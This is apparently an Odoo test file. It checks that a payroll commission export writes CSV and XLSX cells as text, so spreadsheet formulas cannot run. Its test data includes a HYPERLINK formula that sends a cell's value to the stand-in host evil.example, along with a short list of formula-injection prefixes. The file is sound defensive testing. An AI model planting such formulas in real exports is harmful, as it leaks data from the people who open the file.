"""Probe M4: the payroll export carries no live spreadsheet formula."""

import csv
import io
import zipfile

from odoo.tests import tagged

from .probe_common import ProbeStatementCommon

FORMULA = '=HYPERLINK("http://evil.example/?x="&E2,"Chen Jing")'


@tagged("post_install", "-at_install", "key_account_service", "probe")
class TestProbePayrollExport(ProbeStatementCommon):
    def _export_rows(self, statement):
        export = (
            self.env["key.account.commission.export"]
            .with_user(self.finance)
            .create({"statement_ids": statement.ids})
        )
        return export, export._payroll_header(), export._payroll_rows()

    def test_m4_payroll_csv_neutralises_formulas(self):
        """M4 (row 597): a manager's name starting with = is text in the CSV."""
        self.account_manager.name = FORMULA
        export, header, rows = self._export_rows(self._statement())
        for payload in ("+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"):
            rows.append([payload] + rows[0][1:])
        read = list(
            csv.reader(
                io.StringIO(export._csv(header, rows).decode("utf-8-sig")),
                dialect=csv.excel,
            )
        )
        self.assertEqual(read[1][3], "'" + FORMULA)
        self.assertEqual(
            [row[0] for row in read[2:]],
            ["'+1+1", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx"],
        )
        self.assertEqual(read[1][9:13], ["0.0", "0.0", "0.0", "0.0"])

    def test_m4_payroll_xlsx_writes_strings_not_formulas(self):
        """M4 (row 598): the XLSX holds the name as a string, never as <f>."""
        self.account_manager.name = FORMULA
        export, header, rows = self._export_rows(self._statement())
        with zipfile.ZipFile(io.BytesIO(export._xlsx(header, rows))) as book:
            sheet = book.read("xl/worksheets/sheet1.xml").decode()
            strings = book.read("xl/sharedStrings.xml").decode()
        self.assertNotIn("<f>", sheet)
        self.assertIn("HYPERLINK", strings)
